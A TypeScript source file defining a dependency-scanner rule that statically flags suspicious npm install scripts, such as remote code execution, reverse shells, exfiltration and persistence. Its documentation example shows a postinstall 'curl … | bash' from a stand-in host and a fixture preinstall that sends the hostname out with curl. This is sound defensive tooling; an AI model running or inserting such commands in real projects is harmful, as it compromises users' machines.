import type { Packument } from '../../know/registry/documents/packument.ts';
import { previousVersion } from '../../know/registry/releases/earlier-versions.ts';
import { describeSuspicion } from '../../know/scripts/describe-suspicion.ts';
import { scriptVerdict } from '../../know/scripts/script-verdict.ts';
import { suspiciousGyp } from '../../know/scripts/suspicious-gyp.ts';
import { type SuspiciousScript, suspiciousScript } from '../../know/scripts/suspicious-script.ts';
import type { LockEntry, Lockfile } from '../../read/lockfile/model/lockfile.ts';
import { shownText } from '../../read/lockfile/model/shown-text.ts';
import type { Manifest } from '../../read/manifest/manifest.ts';
import type { CheckedFile } from '../../read/project/checked-file.ts';
import { declaredEntries } from '../../read/project/locked/direct-entries.ts';
import { lockedEntry } from '../../read/project/locked/locked-dependency.ts';
import type { Project } from '../../read/project/project.ts';
import type { StartedFile } from '../../read/project/started-code.ts';
import { removeProperty } from '../../read/text/json/json-edit.ts';
import { nameOf } from '../../read/text/paths/uri.ts';
import type { Span } from '../../read/text/span.ts';
import { installScripts } from '../changes/install-scripts.ts';
import { defineRule, type Found, type RuleContext } from '../check/rule.ts';
import { type SelectedVersion, selectedVersions } from '../check/selected-versions.ts';
import { pinFix } from '../check/version-fixes.ts';

/**
 * Published attacks mostly start in a lifecycle script, and many of their command lines do what no install needs. The
 * scripts and the files that they start are read, never run. Downloads without running the result, programs that are
 * started, and inline code by itself are normal. Known false positives: a project that installs a tool with the
 * `curl … | sh` of its vendor, which is the same risk.
 */
interface Suspicious {
  /** A script of the manifest, a version of a dependency with its script, or binding.gyp. */
  readonly where:
    | { readonly type: 'own'; readonly script: string }
    | {
        readonly type: 'dependency';
        readonly script: string;
        readonly name: string;
        readonly version: string;
      }
    | { readonly type: 'gyp' };
  readonly suspicion: SuspiciousScript['suspicion'];
  readonly outline: string;
  /** The file that the script starts, with the line, if the finding is about that. */
  readonly file?: string;
  /** An earlier version without such a script. */
  readonly older: string | null;
  readonly declared: string | null;
}

export const installScriptSuspicious = defineRule<Suspicious, Record<string, never>>({
  id: 'install-script-suspicious',
  category: 'scripts',
  preset: 'security',
  severity: 'error',
  facts: ['packument'],
  options: {},
  docs: {
    summary:
      'A script of an install that downloads and runs code, or does something else that no install needs.',
    why: `Lifecycle scripts run on every machine that installs the project, with the user's full rights. The rule reads
their text, and runs nothing. It reports a script that

- downloads code and runs it, as in \`curl … | bash\` or \`npx https://…\`,
- runs encoded code, or inline code that decodes or downloads what it runs,
- opens a shell to another machine,
- sends environment variables, credential files or the names of user and machine,
- looks for secrets in the memory of other programs,
- contacts a host at which anybody collects data, or the metadata service of a cloud,
- runs code through \`rundll32\` or a similar tool of Windows,
- adds commands to \`crontab\`, a shell's profile or \`authorized_keys\`,
- hides a command behind blanks, a URL in base64 or names behind an obfuscator, or turns off certificate verification.

It reads the scripts of package.json that an install may run, including those that these call. In a comparison with a
base it also reads a changed \`binding.gyp\`. If registry access is allowed, it reads the scripts of the dependencies'
versions too, unless the project denies them.

It also reads the files that these scripts start, such as \`node tools/setup.js\`, and those that such a file loads or
starts with a written path. It does the same for installed packages that have a script according to the lockfile, or
that the project approves. Deeper files, programs of other packages and binaries are not read, nor is more than 4 MB of
a file and 40 MB of a project.
[\`dephygiene scripts\`](../scripts.md) reads all installed packages.`,
    bad: `-- package.json --
{
  "name": "shop",
  "scripts": {
    "postinstall": "curl -fsSL https://tools.example.test/setup.sh | bash"
                   ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-script-suspicious: "postinstall" downloads and runs remote code: curl … | bash. Remove it, or review exactly what it does.
  },
  "dependencies": {
    "native": "1.0.1"
              ^^^^^^^ install-script-suspicious: native 1.0.1 sends data of this machine over the network: curl … $(…), in its "preinstall" script. Deny the script, or use 1.0.0.
  }
}
`,
    good: `-- package.json --
{
  "name": "shop",
  "scripts": {
    "postinstall": "bash scripts/setup.sh"
  },
  "dependencies": {
    "native": "1.0.0"
  }
}
-- scripts/setup.sh --
git config core.hooksPath .githooks
`,
    registry: {
      native: {
        versions: {
          '1.0.0': { scripts: { install: 'node-gyp rebuild' } },
          '1.0.1': { scripts: { preinstall: 'curl https://c.example.test/?h=$(hostname)' } },
        },
      },
    },
  },
  factsOfEach: 'also',
  check: {
    *manifest(manifest, context) {
      const run = installScripts(manifest);
      const started = context.project.startedCode.own.get(manifest.uri) ?? [];
      for (const [name, { value, span }] of manifest.scripts) {
        const script = run.has(name) ? suspiciousScript(value) : undefined;
        const where = { type: 'own', script: name } as const;
        if (script !== undefined) yield found(span, where, script);
        else if (run.has(name)) yield* inStartedFiles(span, where, started);
      }
      const told = new Set<string>();
      for (const one of inDependencies(manifest, context)) {
        told.add(one.package ?? '');
        yield one;
      }
      yield* installedDependencies(manifest, context, told);
    },
    *lockfile(lockfile, context) {
      const told = new Set<string>();
      for (const one of inDependencies(lockfile, context)) {
        told.add(`${one.package} ${one.version}`);
        yield one;
      }
      yield* installedEntries(lockfile, context, told);
    },
    pnpmWorkspace: inDependencies,
    yarnrc: inDependencies,
    *program(file) {
      const gyp = nameOf(file.uri) === 'binding.gyp' ? suspiciousGyp(file.text) : undefined;
      if (gyp !== undefined) yield found(gyp.span, { type: 'gyp' }, gyp.script);
    },
  },
  message({ data: { where, suspicion, outline, older, file } }) {
    const place = file === undefined ? '' : `, in ${shownText(file, 120)}`;
    const does = `${describeSuspicion({ suspicion, outline })}${place}`;
    switch (where.type) {
      case 'own':
        return `"${shownText(where.script, 60)}" ${does}. Remove it, or review exactly what it does.`;
      case 'gyp':
        return `A command in binding.gyp ${does}. It runs at install. Remove it, or review exactly what it does.`;
      case 'dependency': {
        const instead = older === null ? 'another version' : older;
        return `${where.name} ${where.version} ${does}, ${file === undefined ? 'in' : 'started by'} its "${where.script}" script. Deny the script, or use ${instead}.`;
      }
    }
  },
  *fix({ data: { where, older, declared }, span }, { file, uri }) {
    if (where.type === 'own') {
      const edits = removeProperty(file.text, ['scripts', where.script]) ?? [];
      if (edits.length === 0) return;
      const title = `Delete the script ${JSON.stringify(where.script)}`;
      yield { title, applicability: 'unsafe', edits: edits.map((edit) => ({ uri, ...edit })) };
      return;
    }
    if (where.type === 'gyp' || older === null || declared === null) return;
    const fix = pinFix({ file, uri, span, name: where.name, declared }, older);
    if (fix !== undefined) yield fix;
  },
});

function* inDependencies(file: CheckedFile, context: RuleContext): Generator<Found<Suspicious>> {
  for (const selected of selectedVersions(file, context)) {
    const { target, version, packument, span, entry, related } = selected;
    const first = suspiciousIn(packument, version);
    if (first === undefined) continue;
    const verdict = scriptVerdict(context.project, target, entry);
    if (verdict.type === 'denied' || verdict.type === 'left-out') continue;
    const where = { type: 'dependency', script: first.name, name: target, version } as const;
    yield {
      ...found(span, where, first.script, {
        older: cleanVersion(selected) ?? null,
        declared: selected.isDecidedHere ? (selected.declared ?? null) : null,
      }),
      cause: 'install-script',
      package: selected.name,
      version,
      ...(target === selected.name ? {} : { target }),
      related,
    };
  }
}

/** Yields the first suspicious place in the files that a script starts. */
function* inStartedFiles(
  span: Span,
  where: Suspicious['where'] & { readonly script: string },
  files: readonly StartedFile[],
): Generator<Found<Suspicious>> {
  for (const { script, path, uri, suspicious } of files) {
    if (suspicious === undefined || script !== where.script) continue;
    const { suspicion, outline, line } = suspicious;
    const { data, ...rest } = found(span, where, { suspicion, outline });
    const related = [{ uri, span: suspicious.span, message: `It ${describeSuspicion(suspicious)}.` }];
    yield { ...rest, data: { ...data, file: `${path}:${line}` }, related };
    return;
  }
}

/** Yields the dependencies whose installed files are suspicious, except those with a finding about the script itself. */
function* installedDependencies(
  manifest: Manifest,
  { project }: RuleContext,
  told: Set<string>,
): Generator<Found<Suspicious>> {
  if (project.startedCode.installed.size === 0) return;
  for (const dependency of manifest.dependencies) {
    const entry = lockedEntry(project, manifest.uri, dependency);
    if (entry === undefined || told.has(dependency.name)) continue;
    const { name } = dependency;
    const ofPackage = { package: name, ...(entry.name === name ? {} : { target: entry.name }) };
    for (const one of installedFiles(entry, dependency.nameSpan, project)) {
      told.add(name);
      yield { ...one, ...ofPackage };
    }
  }
}

/** Yields the same for the locked packages that no manifest declares. */
function* installedEntries(
  lockfile: Lockfile,
  { project, entries }: RuleContext & { readonly entries: Iterable<LockEntry> },
  told: Set<string>,
): Generator<Found<Suspicious>> {
  if (lockfile !== project.lockfile || project.startedCode.installed.size === 0) return;
  const declared = declaredEntries(lockfile);
  for (const entry of entries) {
    const key = `${entry.name} ${entry.version?.value}`;
    if (declared.has(entry) || told.has(key)) continue;
    for (const one of installedFiles(entry, entry.keySpan, project)) {
      told.add(key);
      yield { ...one, package: entry.name };
    }
  }
}

function* installedFiles(entry: LockEntry, span: Span, project: Project): Generator<Found<Suspicious>> {
  const files = project.startedCode.installed.get(entry.key);
  const version = entry.version?.value;
  const first = files?.find(({ suspicious }) => suspicious !== undefined);
  if (files === undefined || first === undefined || version === undefined) return;
  const verdict = scriptVerdict(project, entry.name, entry);
  if (verdict.type === 'denied' || verdict.type === 'left-out') return;
  const where = { type: 'dependency', script: first.script, name: entry.name, version } as const;
  for (const one of inStartedFiles(span, where, files)) yield { ...one, cause: 'install-script', version };
}

function suspiciousIn(
  { versions }: Packument,
  version: string,
): { readonly name: string; readonly script: SuspiciousScript } | undefined {
  for (const [name, command] of versions.get(version)?.installScripts ?? []) {
    const script = suspiciousScript(command);
    if (script !== undefined) return { name, script };
  }
  return undefined;
}

function cleanVersion({ packument, version }: SelectedVersion): string | undefined {
  const previous = previousVersion(packument, version)?.version;
  return previous === undefined || suspiciousIn(packument, previous) !== undefined ? undefined : previous;
}

function found(
  span: Found<Suspicious>['span'],
  where: Suspicious['where'],
  { suspicion, outline }: SuspiciousScript,
  { older, declared }: Pick<Suspicious, 'older' | 'declared'> = { older: null, declared: null },
): Found<Suspicious> {
  const data = { where, suspicion, outline, older, declared };
  // The first weakens the script's own downloads, and some vendors obfuscate what is harmless.
  const isMild = suspicion === 'tls-off' || suspicion === 'obfuscated';
  return { span, data, ...(isMild ? { severity: 'warning' } : {}) };
}
